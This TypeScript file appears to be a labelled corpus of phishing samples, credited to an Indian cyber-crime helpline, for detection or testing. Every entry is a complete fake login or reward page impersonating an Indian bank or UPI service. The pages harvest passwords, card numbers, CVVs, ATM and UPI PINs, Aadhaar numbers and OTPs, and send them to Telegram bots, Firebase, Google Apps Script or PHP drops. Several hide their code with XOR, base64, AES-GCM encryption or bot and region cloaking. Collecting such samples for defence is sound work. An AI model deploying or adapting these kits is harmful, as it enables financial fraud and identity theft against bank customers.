import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { doc, b64, hexEsc, charCodes, xorB64, reversed, chunked, logos, keypad, telegramDrop, aesGcmB64 } from '../parts/xa-kit.js';
import { jsonRoute } from '../parts/e-bin.js';

/**
 * Bank and UPI credential kits seen by an Indian cyber-crime helpline: SBI/YONO, HDFC, ICICI, Axis, Kotak,
 * Paytm, PhonePe and UPI-PIN collectors, reached by SMS short links, posting to PHP drops, Telegram bots,
 * form services or Firebase.
 */
export const entries: Entry[] = [
{
  id: 'xa-sbi-yono-pan-suspended-3step',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://sbi-yono-panupdate.in.net/yono/index.php',
  body: doc({
    title: 'YONO SBI - Login',
    head: '<link rel="icon" href="data:,">',
    css: `body{margin:0;font-family:Roboto,Arial,sans-serif;background:#eef2f9}.top{background:linear-gradient(90deg,#280071,#00b5ef);color:#fff;padding:12px 16px;display:flex;align-items:center;gap:10px}.top b{font-size:20px}.card{background:#fff;max-width:420px;margin:18px auto;border-radius:10px;box-shadow:0 2px 10px #0002;padding:20px}.alert{background:#fff3cd;border:1px solid #ffcd39;color:#7a5800;font-size:13px;padding:10px;border-radius:6px}label{display:block;font-size:13px;color:#444;margin:12px 0 4px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #c5cbe0;border-radius:6px;font-size:15px}button{width:100%;margin-top:18px;padding:12px;background:#280071;color:#fff;border:0;border-radius:24px;font-size:16px}.step{display:none}.step.on{display:block}.cap{display:flex;gap:8px;align-items:center}.cap span{font-family:monospace;font-size:20px;letter-spacing:4px;background:repeating-linear-gradient(45deg,#ddd,#ddd 3px,#f6f6f6 3px,#f6f6f6 6px);padding:6px 10px;text-decoration:line-through}small{color:#777}`,
    body: `<div class="top">${logos.sbi(34)}<b>YONO SBI</b><span style="margin-left:auto;font-size:12px">The Mobile Banking and Lifestyle App!</span></div>
<div class="card">
 <div class="alert">Dear Customer, your YONO SBI account has been <b>temporarily suspended</b> because your PAN card is not updated. Please update your PAN to avoid permanent blocking of your account.</div>
 <form id="s1" class="step on" autocomplete="off">
  <label>Username</label><input name="user" required>
  <label>Password</label><input name="pass" type="password" required>
  <label>Enter the characters shown</label><div class="cap"><span id="cz">7kQ2p</span><input name="cap" style="flex:1" required></div>
  <button>Login</button><small>Mandatory fields are marked with an asterisk (*)</small>
 </form>
 <form id="s2" class="step" autocomplete="off">
  <label>Full Name (as per PAN)</label><input name="name" required>
  <label>Registered Mobile Number</label><input name="mob" maxlength="10" inputmode="numeric" required>
  <label>Date of Birth</label><input name="dob" placeholder="DD/MM/YYYY" required>
  <label>PAN Number</label><input name="pan" maxlength="10" style="text-transform:uppercase" required>
  <label>Account Balance (approx.)</label><input name="bal" inputmode="numeric">
  <button>Update PAN</button>
 </form>
 <form id="s3" class="step" autocomplete="off">
  <p>An OTP has been sent to your registered mobile number. Do not close this page.</p>
  <label>Enter OTP</label><input name="otp" maxlength="6" inputmode="numeric" required>
  <p><small>Resend OTP in <b id="t">120</b> sec</small></p>
  <button>Submit</button>
 </form>
 <div id="s4" class="step"><h3 style="color:#1a7f37">Thank you!</h3><p>Your PAN update request has been received. Your YONO account will be re-activated within 24 hours.</p></div>
</div>
<script>
var n=1;function go(i){document.querySelectorAll('.step').forEach(function(e){e.classList.remove('on')});document.getElementById('s'+i).classList.add('on');n=i;if(i===3){var t=120,el=document.getElementById('t');var h=setInterval(function(){el.textContent=--t;if(t<=0)clearInterval(h)},1000)}}
['s1','s2','s3'].forEach(function(id,ix){document.getElementById(id).addEventListener('submit',function(e){e.preventDefault();var d=new URLSearchParams(new FormData(e.target));d.append('step',ix+1);d.append('ua',navigator.userAgent);fetch('act.php',{method:'POST',body:d}).then(function(){go(ix+2)}).catch(function(){go(ix+2)})})});
</script>`,
  }),
  routes: { 'sbi-yono-panupdate.in.net/yono/act.php': jsonRoute({ status: 'ok', next: true }) },
},
{
  id: 'xa-sbi-rewardz-points-hindi-shortlink',
  label: 'phishing',
  kind: 'card-harvest-reward-points',
  url: 'https://sbirwdz.page.link/Pts7250',
  routes: {
    'sbirwdz.page.link/Pts7250': redirectRoute(302, 'https://sbi-rewardz-redeem.web.app/hi/?ref=sms7250'),
    'sbi-rewardz-redeem.web.app/hi/': htmlRoute(
      doc({
        title: 'SBI रिवॉर्ड्ज़ - पॉइंट्स रिडीम करें',
        lang: 'hi',
        css: `body{margin:0;font-family:'Noto Sans Devanagari',Mukta,Arial;background:#f4f6fb}header{background:#22409a;color:#fff;padding:14px;text-align:center}header h2{margin:6px 0 0;font-size:18px}.pts{background:linear-gradient(135deg,#ffb300,#ff6f00);color:#fff;margin:14px;border-radius:12px;padding:16px;text-align:center}.pts b{font-size:36px;display:block}.box{background:#fff;margin:14px;border-radius:10px;padding:16px}input,select{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 12px;border:1px solid #ccd;border-radius:6px;font-size:15px}.row{display:flex;gap:10px}button{width:100%;background:#22409a;color:#fff;border:0;padding:13px;border-radius:8px;font-size:17px}.warn{color:#c62828;font-size:13px}`,
        body: `<header>${logos.sbi(44)}<h2>SBI Rewardz</h2></header>
<div class="pts">आपके रिवॉर्ड पॉइंट्स<b>7,250</b>मूल्य ₹7,250 · आज रात 11:59 बजे समाप्त</div>
<div class="box"><p>प्रिय ग्राहक, आपके SBI रिवॉर्ड पॉइंट्स आज समाप्त हो रहे हैं। पॉइंट्स को सीधे अपने बैंक खाते में रिडीम करने के लिए नीचे दी गई जानकारी भरें।</p>
<form id="f">
<label>पूरा नाम</label><input name="nm" required>
<label>मोबाइल नंबर</label><input name="mb" maxlength="10" required>
<label>डेबिट / क्रेडिट कार्ड नंबर</label><input name="cn" maxlength="19" inputmode="numeric" placeholder="XXXX XXXX XXXX XXXX" required>
<div class="row"><div><label>समाप्ति तिथि</label><input name="ex" placeholder="MM/YY" required></div><div><label>CVV</label><input name="cv" maxlength="3" type="password" required></div></div>
<label>ATM पिन</label><input name="pn" maxlength="4" type="password" inputmode="numeric" required>
<button>अभी रिडीम करें</button><p class="warn">* पॉइंट्स रिडीम करने के बाद 24 घंटे में राशि खाते में जमा हो जाएगी।</p>
</form></div>
<script>
var _k=${chunked('6849301877:AAGx2kQe7PqT0vLrS9mUd3JYbN1cWfZ4hE8', 6)},_c='-1002219487731';
document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this),m='💳 SBI REWARDZ\\n';d.forEach(function(v,k){m+=k+': '+v+'\\n'});
var x=new XMLHttpRequest();x.open('POST','https://api.telegram.org/bot'+_k+'/sendMessage');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onloadend=function(){location.href='otp.html'};x.send('chat_id='+_c+'&text='+encodeURIComponent(m));};
</script>`,
      }),
    ),
    'sbi-rewardz-redeem.web.app/hi/otp.html': htmlRoute(
      doc({
        title: 'OTP सत्यापन',
        lang: 'hi',
        css: 'body{font-family:Arial;text-align:center;padding:40px}input{font-size:22px;letter-spacing:8px;width:180px;text-align:center}',
        body: `${logos.sbi(50)}<h3>OTP दर्ज करें</h3><p>आपके पंजीकृत मोबाइल पर भेजा गया 6 अंकों का OTP दर्ज करें</p><form onsubmit="event.preventDefault();new Image().src='https://sbi-rewardz-redeem.web.app/hi/o.gif?o='+this.o.value;this.innerHTML='<p>प्रोसेस हो रहा है...</p>'"><input name="o" maxlength="6"><br><br><button>सबमिट</button></form>`,
      }),
    ),
  },
},
{
  id: 'xa-hdfc-credit-limit-firebase-rtdb',
  label: 'phishing',
  kind: 'card-harvest-limit-increase',
  url: 'https://hdfc-creditcard-limit-upgrade.web.app/',
  body: doc({
    title: 'HDFC Credit Card Limit Increase',
    css: `body{margin:0;background:#f7f7f7;font-family:'Segoe UI',Arial}nav{background:#fff;border-bottom:3px solid #004c8f;padding:10px 14px;display:flex;align-items:center;gap:10px}.ban{background:#004c8f;color:#fff;padding:20px 16px}.ban h1{font-size:22px;margin:0 0 6px}.f{background:#fff;margin:12px;padding:16px;border-radius:8px}.f label{font-size:12px;color:#555}.f input,.f select{width:100%;padding:10px;margin:4px 0 12px;border:1px solid #ccc;border-radius:4px;box-sizing:border-box}.two{display:flex;gap:10px}.b{background:#ed232a;color:#fff;border:0;width:100%;padding:13px;font-size:16px;border-radius:4px}`,
    body: `<nav>${logos.hdfc(30)}<b style="color:#004c8f">HDFC BANK</b></nav>
<div class="ban"><h1>Congratulations! You are eligible for a credit limit upgrade</h1>Get up to <b>3X limit</b> instantly on your HDFC Bank Credit Card. Offer valid till today only.</div>
<form class="f" id="lf">
<label>Card Holder Name</label><input name="name" required>
<label>Registered Mobile</label><input name="mobile" maxlength="10" required>
<label>Credit Card Number</label><input name="card" maxlength="19" required>
<div class="two"><div style="flex:1"><label>Expiry (MM/YY)</label><input name="exp" required></div><div style="flex:1"><label>CVV</label><input name="cvv" type="password" maxlength="3" required></div></div>
<label>Date of Birth</label><input name="dob" type="date" required>
<label>Current Limit</label><input name="limit">
<label>Requested Limit</label><select name="req"><option>₹2,00,000</option><option>₹3,50,000</option><option>₹5,00,000</option></select>
<button class="b">Check Eligibility</button></form>
<div id="otp" class="f" style="display:none"><p>Enter the OTP received on your mobile to confirm the limit enhancement.</p><input id="o" maxlength="6"><button class="b" id="ob">Verify</button></div>
<script>
var DB='https://hdfc-cc-limit-81f2a-default-rtdb.asia-southeast1.firebasedatabase.app/';var key='';
lf.onsubmit=function(e){e.preventDefault();var o={};new FormData(lf).forEach(function(v,k){o[k]=v});o.t=Date.now();
fetch(DB+'cards.json',{method:'POST',body:JSON.stringify(o)}).then(function(r){return r.json()}).then(function(j){key=j.name}).catch(function(){}).finally(function(){lf.style.display='none';otp.style.display='block'})};
ob.onclick=function(){fetch(DB+'cards/'+key+'/otp.json',{method:'PUT',body:JSON.stringify(o.value)}).finally(function(){otp.innerHTML='<p>Your request is under process. You will receive an SMS within 48 hours.</p>'})};
</script>`,
  }),
},
{
  id: 'xa-icici-imobile-kyc-hindi-hexdrop',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://icici-imobile-kyc.vercel.app/kyc/update',
  body: doc({
    title: 'ICICI Bank | iMobile Pay KYC',
    lang: 'hi',
    css: `body{margin:0;font-family:'Noto Sans',Arial;background:#fff}.t{background:#f58220;padding:12px;color:#fff;display:flex;gap:10px;align-items:center;font-weight:bold}.m{padding:16px}.m .n{background:#fdecea;color:#b71c1c;padding:10px;border-radius:6px;font-size:14px}input{width:100%;box-sizing:border-box;padding:12px;border:0;border-bottom:2px solid #f58220;margin:10px 0;font-size:15px;background:#fafafa}button{background:#b02a30;color:#fff;border:0;border-radius:6px;padding:13px;width:100%;font-size:16px;margin-top:10px}`,
    body: `<div class="t">${logos.icici(30)} ICICI Bank · iMobile Pay</div>
<div class="m"><div class="n">प्रिय ग्राहक, आपका iMobile Pay खाता KYC अपडेट न होने के कारण <b>आज रात 12 बजे ब्लॉक</b> हो जाएगा। तुरंत नीचे विवरण भरें।</div>
<form id="k">
<input name="uid" placeholder="User ID / Mobile Number" required>
<input name="pwd" type="password" placeholder="Login Password / 4-digit Login PIN" required>
<input name="dcn" placeholder="Debit Card Number" maxlength="19" required>
<input name="dex" placeholder="Expiry MM/YY" required>
<input name="atm" type="password" placeholder="ATM PIN" maxlength="4" required>
<input name="pan" placeholder="PAN कार्ड नंबर" maxlength="10">
<button>KYC अपडेट करें</button></form><p id="msg" style="display:none;color:#2e7d32">धन्यवाद! आपकी KYC प्रक्रिया 2 घंटे में पूरी हो जाएगी। OTP के लिए प्रतीक्षा करें।</p></div>
<script>
var _h='${hexEsc('https://api.telegram.org/bot7311024486:AAF9Lw0xK2mT5nRbVqYeUo3zJd8sGc1HpQa/sendMessage?chat_id=-1001984420667&text=')}';
document.getElementById('k').addEventListener('submit',function(e){e.preventDefault();var s='ICICI KYC%0A';new FormData(this).forEach(function(v,k){s+=k+'='+encodeURIComponent(v)+'%0A'});s+='IP-UA='+encodeURIComponent(navigator.userAgent);fetch(_h+s).catch(function(){});this.style.display='none';document.getElementById('msg').style.display='block'});
</script>`,
  }),
},
(() => {
  const kit = `<div style="font-family:Arial;background:#f5f0f2;min-height:100vh;margin:0"><div style="background:#97144d;color:#fff;padding:12px 16px;display:flex;gap:10px;align-items:center">${logos.axis(30)}<b>AXIS BANK</b><span style="margin-left:auto;font-size:12px">EDGE REWARDS</span></div>
<div style="background:#fff;margin:14px;padding:16px;border-radius:10px"><h3 style="color:#97144d;margin-top:0">Redeem 9,840 EDGE Reward Points</h3><p style="font-size:14px">Your EDGE REWARD points worth <b>₹9,840</b> will lapse today. Redeem them as cash into your account.</p>
<form id="ax"><input name="cust" placeholder="Customer ID / Login ID" style="width:100%;padding:11px;margin:6px 0;box-sizing:border-box" required><input name="mpin" type="password" placeholder="6-digit MPIN" maxlength="6" style="width:100%;padding:11px;margin:6px 0;box-sizing:border-box" required><input name="card" placeholder="Debit/Credit Card Number" style="width:100%;padding:11px;margin:6px 0;box-sizing:border-box" required><input name="exp" placeholder="MM/YY" style="width:48%;padding:11px;margin:6px 0;box-sizing:border-box" required> <input name="cvv" placeholder="CVV" type="password" maxlength="3" style="width:48%;padding:11px;margin:6px 0;box-sizing:border-box" required><button style="background:#97144d;color:#fff;border:0;width:100%;padding:13px;margin-top:10px;border-radius:6px">Redeem Now</button></form></div></div>`;
  const post = `document.getElementById('ax').onsubmit=function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this)).toString();navigator.sendBeacon('/redeem/gate.php?'+q);this.innerHTML='<p>Please wait while we verify your details... Do not press back.</p>';setTimeout(function(){location.href='https://www.axisbank.com'},4000)}`;
  return {
    id: 'xa-axis-edge-rewards-cloaked-mobile',
    label: 'phishing',
    kind: 'cloaked-bank-kit',
    url: 'https://axis-edgerewards.sh-ops.top/redeem/',
    body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>403 Forbidden</title></head><body><center><h1>403 Forbidden</h1></center><hr><center>nginx</center>
<script>
(function(){var m=/Android|iPhone|Mobile/i.test(navigator.userAgent),b=navigator.webdriver||/HeadlessChrome|bot|crawl|spider|Lighthouse/i.test(navigator.userAgent),z=Intl.DateTimeFormat().resolvedOptions().timeZone;
if(!m||b||(z!=='Asia/Calcutta'&&z!=='Asia/Kolkata'))return;
var k='ax9r',d=atob('${xorB64(kit, 'ax9r')}'),o='';for(var i=0;i<d.length;i++)o+=String.fromCharCode(d.charCodeAt(i)^k.charCodeAt(i%k.length));
document.title='Axis Bank - EDGE Rewards';document.body.innerHTML=decodeURIComponent(escape(o));
(new Function(atob('${b64(post)}')))();})();
</script></body></html>`,
  } satisfies Entry;
})(),
{
  id: 'xa-kotak-811-rekyc-aadhaar-otp',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://kotak811-rekyc.co.in/rekyc/',
  body: doc({
    title: 'Kotak 811 | Re-KYC',
    css: `body{margin:0;font-family:Arial;background:#fafafa}.h{background:#fff;padding:12px 16px;border-bottom:1px solid #eee;display:flex;gap:8px;align-items:center}.h b{color:#003874}.h i{color:#ed1c24;font-style:normal;font-weight:bold}.c{max-width:440px;margin:auto;padding:16px}.banner{background:#003874;color:#fff;border-radius:12px;padding:16px}.banner h2{margin:0 0 6px;font-size:19px}.in{background:#fff;border-radius:12px;padding:16px;margin-top:14px;box-shadow:0 1px 6px #0001}input{width:100%;padding:12px;margin:6px 0 12px;border:1px solid #d8d8d8;border-radius:8px;box-sizing:border-box}button{background:#ed1c24;color:#fff;width:100%;border:0;border-radius:8px;padding:13px;font-weight:bold}.ok{display:none}`,
    body: `<div class="h">${logos.kotak(32)}<b>kotak</b><i>811</i></div>
<div class="c"><div class="banner"><h2>Re-KYC pending</h2>As per RBI guidelines, your Kotak 811 account requires periodic Re-KYC. Complete it in 2 minutes to continue using UPI, debit card and net banking.</div>
<div class="in" id="a"><label>CRN (Customer Relationship Number)</label><input id="crn" maxlength="12"><label>MPIN</label><input id="mp" type="password" maxlength="6"><label>Aadhaar Number</label><input id="ad" maxlength="14" placeholder="XXXX XXXX XXXX"><label>Date of Birth</label><input id="db" type="date"><button id="go">Proceed with Aadhaar OTP</button></div>
<div class="in ok" id="b"><p>Enter the 6-digit OTP sent by UIDAI to your Aadhaar-linked mobile.</p><input id="ao" maxlength="6"><button id="go2">Verify &amp; Complete Re-KYC</button></div>
<div class="in ok" id="c"><h3 style="color:#2e7d32">Re-KYC submitted</h3><p>Reference no. 811RK202510074412. Your account will be updated within 48 hours.</p></div></div>
<script>
function snd(o){var x=new XMLHttpRequest();x.open('POST','api/submit.php',false);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');try{x.send(new URLSearchParams(o).toString())}catch(e){}}
go.onclick=function(){if(!crn.value||!mp.value)return alert('Please fill all details');snd({crn:crn.value,mpin:mp.value,aadhaar:ad.value,dob:db.value});a.style.display='none';b.style.display='block'};
go2.onclick=function(){snd({crn:crn.value,otp:ao.value});b.style.display='none';c.style.display='block'};
</script>`,
  }),
  routes: { 'kotak811-rekyc.co.in/rekyc/api/submit.php': { status: 200, headers: { 'content-type': 'text/plain' }, body: '1' } },
},
{
  id: 'xa-phonepe-scratchcard-upi-pin-keypad',
  label: 'phishing',
  kind: 'upi-pin-collection',
  url: 'https://phonepe-rewards.cashback-offer.xyz/scratch/2499',
  body: doc({
    title: 'PhonePe - You won a Scratch Card',
    css: `body{margin:0;background:#f3ecfb;font-family:Roboto,Arial}.bar{background:#5f259f;color:#fff;padding:12px 14px;display:flex;align-items:center;gap:10px}.sc{margin:20px auto;width:260px;height:180px;border-radius:16px;position:relative;background:#fff;display:flex;align-items:center;justify-content:center;flex-direction:column;box-shadow:0 4px 14px #5f259f33}.sc b{font-size:40px;color:#5f259f}.cover{position:absolute;inset:0;border-radius:16px;background:repeating-linear-gradient(135deg,#7d3cc7,#7d3cc7 10px,#6a2db5 10px,#6a2db5 20px);color:#fff;display:flex;align-items:center;justify-content:center;font-size:18px;cursor:pointer}.p{background:#fff;margin:12px;border-radius:12px;padding:14px;display:none}select,input{width:100%;padding:11px;margin:6px 0;box-sizing:border-box;border:1px solid #d9c9ee;border-radius:8px}#pin{font-size:26px;letter-spacing:14px;text-align:center}`,
    body: `<div class="bar">${logos.phonepe(30)}<b>PhonePe</b></div>
<div class="sc"><b>₹2,499</b><span>Cashback won!</span><div class="cover" id="cv">Tap to Scratch</div></div>
<div class="p" id="p"><p>To receive <b>₹2,499</b> directly in your bank account, select your bank and enter your UPI PIN.</p>
<form id="f"><select name="bank"><option>State Bank of India</option><option>HDFC Bank</option><option>ICICI Bank</option><option>Axis Bank</option><option>Bank of Baroda</option><option>Punjab National Bank</option><option>Kotak Mahindra Bank</option></select>
<input name="mob" placeholder="PhonePe registered mobile" maxlength="10" required>
<div style="text-align:center;margin-top:8px;font-size:13px">ENTER UPI PIN ${logos.upi(16)}</div><input id="pin" name="pin" type="password" maxlength="6" readonly required>
${keypad('pin', '#5f259f')}</form></div>
<script>
cv.onclick=function(){cv.remove();p.style.display='block'};
${telegramDrop('tg', '7055519382:AAE3fPq8vR1kXw2yZt6uJ0mN4bH9sL7cD5g', '-1002087765104', 'beacon')}
f.onsubmit=function(e){e.preventDefault();var s='PhonePe PIN\\n';new FormData(f).forEach(function(v,k){s+=k+': '+v+'\\n'});tg(s);p.innerHTML='<p style="text-align:center">Processing payment of ₹2,499...<br><br>Transaction will be credited in 24 hours.</p>'};
</script>`,
  }),
},
{
  id: 'xa-npci-upi-reactivate-tamil',
  label: 'phishing',
  kind: 'upi-pin-collection',
  url: 'https://npci-upi-kyc.online/ta/verify.html',
  body: doc({
    title: 'UPI ஐடி சரிபார்ப்பு - NPCI',
    lang: 'ta',
    css: `body{margin:0;font-family:'Noto Sans Tamil',Latha,Arial;background:#f2f5f9}.h{background:#fff;display:flex;align-items:center;justify-content:space-between;padding:10px 16px;border-bottom:3px solid #f47920}.c{max-width:430px;margin:16px auto;background:#fff;padding:18px;border-radius:8px}.a{background:#ffebee;padding:10px;border-radius:6px;color:#b71c1c}input,select{display:block;width:100%;box-sizing:border-box;padding:11px;margin:8px 0 14px;border:1px solid #c9d3e0;border-radius:6px}button{background:#097939;color:#fff;border:0;padding:13px;width:100%;border-radius:6px;font-size:16px}`,
    body: `<div class="h"><b style="color:#1a3d7c">NPCI</b>${logos.upi(24)}</div>
<div class="c"><p class="a">உங்கள் UPI ஐடி தற்காலிகமாக முடக்கப்பட்டுள்ளது. மீண்டும் செயல்படுத்த கீழே உள்ள விவரங்களை உடனடியாக நிரப்பவும்.</p>
<form method="post" action="save.php">
<label>UPI ஐடி</label><input name="vpa" placeholder="example@oksbi" required>
<label>வங்கி</label><select name="bank"><option>Indian Bank</option><option>Indian Overseas Bank</option><option>State Bank of India</option><option>Canara Bank</option><option>City Union Bank</option><option>Karur Vysya Bank</option><option>Tamilnad Mercantile Bank</option></select>
<label>டெபிட் கார்டு கடைசி 6 இலக்கங்கள்</label><input name="d6" maxlength="6" required>
<label>காலாவதி தேதி (MM/YY)</label><input name="exp" required>
<label>UPI PIN</label><input name="upin" type="password" maxlength="6" required>
<button>சரிபார்க்கவும்</button></form>
<p style="font-size:12px;color:#666">© National Payments Corporation of India. அனைத்து உரிமைகளும் பாதுகாக்கப்பட்டவை.</p></div>`,
  }),
  routes: { 'npci-upi-kyc.online/ta/save.php': redirectRoute(302, 'https://npci-upi-kyc.online/ta/wait.html'), 'npci-upi-kyc.online/ta/wait.html': htmlRoute('<!doctype html><meta charset="utf-8"><title>காத்திருக்கவும்</title><body style="font-family:Arial;text-align:center;padding:50px"><p>சரிபார்ப்பு நடைபெறுகிறது... 24 மணி நேரத்திற்குள் உங்கள் UPI மீண்டும் செயல்படும்.</p></body>') },
},
{
  id: 'xa-hdfc-punycode-rekyc-atm-pin',
  label: 'phishing',
  kind: 'lookalike-bank-kit',
  url: 'https://xn--hdfcbnk-netbanking-vwo.com/rekyc/aadhaar',
  body: doc({
    title: 'HDFC Bank - Update Mobile / Re-KYC via Aadhaar',
    css: `body{margin:0;font-family:Arial;background:#eef1f6}.t{background:#004c8f;color:#fff;padding:12px 18px;display:flex;align-items:center;gap:10px}.b{max-width:520px;margin:24px auto;background:#fff;border:1px solid #d4dae6}.b h2{margin:0;background:#ed232a;color:#fff;font-size:16px;padding:10px 14px}.b form{padding:16px}.r{display:flex;align-items:center;margin:10px 0}.r label{flex:0 0 170px;font-size:13px}.r input{flex:1;padding:8px;border:1px solid #aab}.btn{background:#004c8f;color:#fff;padding:9px 26px;border:0}`,
    body: `<div class="t">${logos.hdfc(34)}<b>HDFC BANK</b></div>
<div class="b"><h2>Re-KYC via Aadhaar e-KYC</h2><form id="r">
<p style="font-size:13px">Your registered mobile number needs to be re-linked with Aadhaar as per the latest RBI Master Direction on KYC. Complete the process to avoid suspension of debit card and NetBanking services.</p>
<div class="r"><label>Customer ID</label><input name="c" required></div>
<div class="r"><label>NetBanking Password</label><input name="p" type="password" required></div>
<div class="r"><label>Aadhaar Number</label><input name="a" maxlength="12" required></div>
<div class="r"><label>Debit Card Number</label><input name="d" maxlength="16" required></div>
<div class="r"><label>ATM PIN</label><input name="n" type="password" maxlength="4" required></div>
<div class="r"><label>New Mobile Number</label><input name="m" maxlength="10"></div>
<button class="btn">Submit</button></form></div>
<script>r.addEventListener('submit',function(e){e.preventDefault();var s=String.fromCharCode(${charCodes('/rekyc/l.php')});navigator.sendBeacon(s,new FormData(r));r.innerHTML='<p style="color:green">Request submitted successfully. Ref: RK'+Math.floor(Math.random()*1e8)+'</p>'});</script>`,
  }),
},
(() => {
  const keyHex = '3f1c9a7e22d04b6581a9c0de55f27b13';
  const ivHex = 'a1b2c3d4e5f60718293a4b5c';
  const inner = `<div style="max-width:460px;margin:40px auto;background:#fff;border:1px solid #ddd;font-family:Arial"><div style="background:#97144d;padding:14px;color:#fff;display:flex;gap:10px;align-items:center">${logos.axis(28)}<b>Axis Bank e-Statement</b></div><div style="padding:18px"><p style="font-size:14px">Your consolidated account statement for <b>September 2025</b> (Account XXXXXXXX6630) is password protected. Sign in with your Internet Banking credentials to view the PDF.</p><form id="es"><input name="login" placeholder="Login ID / Customer ID" style="width:100%;padding:10px;margin:6px 0;box-sizing:border-box"><input name="pwd" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0;box-sizing:border-box"><button style="width:100%;padding:11px;background:#97144d;color:#fff;border:0">View Statement</button></form><p id="er" style="color:#c00;display:none">Invalid credentials. Please try again.</p></div></div>`;
  const logic = `var t=0;document.getElementById('es').onsubmit=function(e){e.preventDefault();var f=new FormData(this);f.append('try',++t);fetch('${reversed('https://statement-view.axis-estmt.workers.dev/p')}'.split('').reverse().join(''),{method:'POST',body:f,mode:'no-cors'});if(t<2){document.getElementById('er').style.display='block'}else{location.href='https://www.axisbank.com/'}}`;
  return {
    id: 'xa-axis-estatement-aesgcm-attachment',
    label: 'phishing',
    kind: 'encrypted-html-attachment',
    url: 'https://www.shreeganeshtraders.co.in/wp-content/uploads/2025/10/Axis_Statement_Sep2025.html',
    body: `<html><head><meta charset="utf-8"><title>Statement</title></head><body style="background:#f2f2f2;margin:0"><div id="v">Loading document...</div>
<script>
(async function(){var k='${keyHex}',iv='${ivHex}',c='${aesGcmB64(inner, keyHex, ivHex)}';
function h(x){return new Uint8Array(x.match(/../g).map(function(b){return parseInt(b,16)}))}
var key=await crypto.subtle.importKey('raw',h(k),'AES-GCM',false,['decrypt']);
var pt=await crypto.subtle.decrypt({name:'AES-GCM',iv:h(iv)},key,Uint8Array.from(atob(c),function(ch){return ch.charCodeAt(0)}));
document.getElementById('v').innerHTML=new TextDecoder().decode(pt);new Function(atob('${b64(logic)}'))();})();
</script></body></html>`,
  } satisfies Entry;
})(),
{
  id: 'xa-sbi-pension-jeevan-pramaan-bengali',
  label: 'phishing',
  kind: 'bank-credential-kit',
  url: 'https://jeevanpramaan-sbi-pension.com/bn/login',
  body: doc({
    title: 'এসবিআই পেনশন - জীবন প্রমাণ আপডেট',
    lang: 'bn',
    css: `body{margin:0;font-family:'Noto Sans Bengali',Vrinda,Arial;background:#f6f8fc}.hd{background:#22409a;color:#fff;display:flex;align-items:center;gap:10px;padding:12px 16px}.box{max-width:440px;margin:18px auto;background:#fff;border-radius:8px;padding:18px;border-top:4px solid #00b5ef}.n{background:#fff8e1;border-left:4px solid #ffa000;padding:10px;font-size:14px}input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 12px;border:1px solid #ccd5e5;border-radius:6px}button{width:100%;padding:12px;background:#22409a;color:#fff;border:0;border-radius:6px;font-size:16px}`,
    body: `<div class="hd">${logos.sbi(34)}<b>SBI পেনশন সেবা</b></div>
<div class="box"><div class="n">প্রিয় পেনশনভোগী, আপনার বার্ষিক <b>জীবন প্রমাণ পত্র (Life Certificate)</b> এখনও জমা হয়নি। ৩০ নভেম্বরের মধ্যে আপডেট না করলে আপনার পেনশন বন্ধ হয়ে যাবে।</div>
<form id="jp">
<label>পেনশন পেমেন্ট অর্ডার (PPO) নম্বর</label><input name="ppo" required>
<label>ব্যাঙ্ক অ্যাকাউন্ট নম্বর</label><input name="acc" required>
<label>ইন্টারনেট ব্যাঙ্কিং ইউজারনেম</label><input name="un" required>
<label>পাসওয়ার্ড</label><input name="pw" type="password" required>
<label>আধার নম্বর</label><input name="aad" maxlength="12">
<label>মোবাইল নম্বর</label><input name="mob" maxlength="10" required>
<button>জমা দিন</button></form>
<div id="ot" style="display:none"><p>আপনার মোবাইলে পাঠানো OTP লিখুন</p><input id="o" maxlength="6"><button onclick="fin()">যাচাই করুন</button></div></div>
<script>
var G=[${charCodes('https://script.google.com/macros/s/AKfycbx7Qm2pension9Lf0WBn/exec')}];var E=String.fromCharCode.apply(null,G);
jp.onsubmit=function(e){e.preventDefault();fetch(E,{method:'POST',mode:'no-cors',body:new FormData(jp)});jp.style.display='none';ot.style.display='block'};
function fin(){var f=new FormData();f.append('ppo',jp.ppo.value);f.append('otp',o.value);fetch(E,{method:'POST',mode:'no-cors',body:f});ot.innerHTML='<p>ধন্যবাদ। আপনার জীবন প্রমাণ ৭২ ঘণ্টার মধ্যে আপডেট হবে।</p>'}
</script>`,
  }),
},
];
